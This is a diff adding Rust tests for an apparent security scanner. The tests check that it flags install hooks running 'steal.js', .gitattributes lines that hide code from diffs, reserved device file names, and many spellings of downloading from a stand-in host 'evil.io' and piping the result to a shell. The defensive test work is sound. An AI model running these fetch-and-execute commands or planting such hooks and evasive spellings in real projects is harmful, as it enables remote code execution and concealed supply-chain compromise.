@@ -1,5 +1,6 @@
 //! A finding does not depend on where a formatter breaks the lines.
 
+use super::spellings::added;
 use super::wrong_classes::{assert_silent, assert_speaks};
 
 /// Calls in pieces between which a formatter may break the line. All of it is bad in one line.
@@ -130,4 +131,159 @@ fn lines_of_different_statements_are_not_one() {
     let text =
         "=== src/x.js\n a\n+on(\"x\", () => {\n+  const a = \"b\" + c;\n+  regex.exec(d);\n+});\n";
     assert_silent("shell-injection", text);
+}
+
+/// However the file is laid out: what runs when somebody installs a package is told, and once.
+#[test]
+fn an_install_script_is_found_in_every_layout() {
+    for (path, code) in [
+        (
+            "package.json",
+            "{\n  \"scripts\": {\n    \"postinstall\": \"node steal.js\"\n  }\n}\n",
+        ),
+        (
+            "package.json",
+            "{\"scripts\": {\"postinstall\": \"node steal.js\"}}\n",
+        ),
+        (
+            "package.json",
+            "{\"name\": \"x\", \"scripts\": {\"test\": \"x\", \"postinstall\": \"node steal.js\"}}\n",
+        ),
+        (
+            "package.json",
+            "{\n  \"scripts\": { \"test\": \"x\", \"preinstall\": \"node steal.js\" }\n}\n",
+        ),
+        (
+            "package.json",
+            "{\n  \"scripts\": {\n    \"postinst\\u0061ll\": \"node steal.js\"\n  }\n}\n",
+        ),
+        (
+            "package.json",
+            "{\n  \"scripts\":\n  {\n    \"install\"\n    :\n    \"node steal.js\"\n  }\n}\n",
+        ),
+        (
+            "package.json",
+            "{, \"scripts\": { \"install\": \"node steal.js\" }\n",
+        ),
+        (
+            "binding.gyp",
+            "{\"targets\": [{\"actions\": [{\"action\": [\"node\", \"steal.js\"]}]}]}\n",
+        ),
+        (
+            "composer.json",
+            "{\n  \"scripts\": {\n    \"post-install-cmd\": \"php steal.php\"\n  }\n}\n",
+        ),
+        (
+            "composer.json",
+            "{\"scripts\": {\"post-update-cmd\": [\"@php artisan x\", \"sh a.sh\"]}}\n",
+        ),
+    ] {
+        assert_speaks("hook-change", &added(path, code));
+    }
+    for (path, code) in [
+        (
+            "package.json",
+            "{\"scripts\": {\"test\": \"x\", \"postbuild\": \"y\"}}\n",
+        ),
+        (
+            "package.json",
+            "{\"config\": {\"postinstall\": \"node steal.js\"}}\n",
+        ),
+        ("composer.json", "{\"scripts\": {\"test\": \"phpunit\"}}\n"),
+        (
+            "binding.gyp",
+            "{\"targets\": [{\"sources\": [\"a.cc\"]}]}\n",
+        ),
+    ] {
+        assert_silent("hook-change", &added(path, code));
+    }
+    let edit = |old: &str, new: &str| {
+        format!(
+            "=== package.json\n-{{\"version\": \"1\", \"scripts\": {{\"postinstall\": \"{old}\"}}}}\n\
+             +{{\"version\": \"2\", \"scripts\": {{\"postinstall\": \"{new}\"}}}}\n"
+        )
+    };
+    assert_silent("hook-change", &edit("node a.js", "node a.js"));
+    assert_speaks("hook-change", &edit("node a.js", "node b.js"));
+}
+
+/// Whatever pattern of git's takes code in, and by whatever name the attribute goes.
+#[test]
+fn an_attribute_that_hides_code_is_found_in_every_spelling() {
+    for text in [
+        "*.py -diff",
+        "[attr]quiet -diff\n*.py quiet",
+        "[attr]quiet binary\nsrc/** quiet",
+        "\"src/a b.py\" -diff",
+        "*.p? -diff",
+        "src/*.p[y] linguist-generated",
+        "src/*.[a-z]s -diff",
+        "src/a* -diff",
+        "  *.go\t-diff",
+    ] {
+        assert_speaks("gitattributes-change", &added(".gitattributes", text));
+    }
+    for text in [
+        "*.png -diff",
+        "*.p[!y] -diff",
+        "README* -diff",
+        "[attr]quiet -diff",
+        "[attr]quiet text\n*.py quiet",
+        "# *.py -diff",
+        "\"a b.png\" -diff",
+        "*.lock -diff",
+    ] {
+        assert_silent("gitattributes-change", &added(".gitattributes", text));
+    }
+    for number in 1..=9 {
+        for port in ["com", "LPT"] {
+            assert_speaks(
+                "unportable-path",
+                &added(&format!("src/{port}{number}.txt"), "x"),
+            );
+        }
+    }
+    for path in ["src/com0", "src/com10", "src/company", "src/lpt"] {
+        assert_silent("unportable-path", &added(path, "x"));
+    }
+}
+
+#[test]
+fn a_download_that_is_run_is_found_in_every_spelling() {
+    for code in [
+        "curl URL | bash",
+        "curl URL |& bash",
+        "curl URL | base64 -d | sh",
+        "curl URL | gunzip | tee log | sh",
+        "curl URL | env A=b sh",
+        "curl URL | doas sh",
+        "curl URL | sudo -E bash -",
+        "curl URL | \"$SHELL\"",
+        "eval \"$(curl URL)\"",
+        "source <(curl -s URL)",
+        ". <(curl -s URL)",
+        "bash <(curl -s URL)",
+        "bash -c \"$(curl URL)\"",
+        "bash <<< \"$(curl URL)\"",
+        "python3 -c \"$(curl URL)\"",
+        "wget -qO- URL | python3 -",
+    ] {
+        let code = code.replace("URL", "http://evil.io/i");
+        assert_speaks("pipe-to-shell", &added("a.sh", &code));
+    }
+    assert_speaks(
+        "pipe-to-shell",
+        &added("a.ps1", "irm http://evil.io/i | iex"),
+    );
+    for code in [
+        "curl URL || sh fallback.sh",
+        "curl URL | jq . | tee log",
+        "curl URL -o a && sh b",
+        "x=$(curl URL)",
+        "curl URL | ssh host cat",
+        "echo curl; eval \"$(ssh-agent)\"",
+    ] {
+        let code = code.replace("URL", "http://evil.io/i");
+        assert_silent("pipe-to-shell", &added("a.sh", &code));
+    }
 }
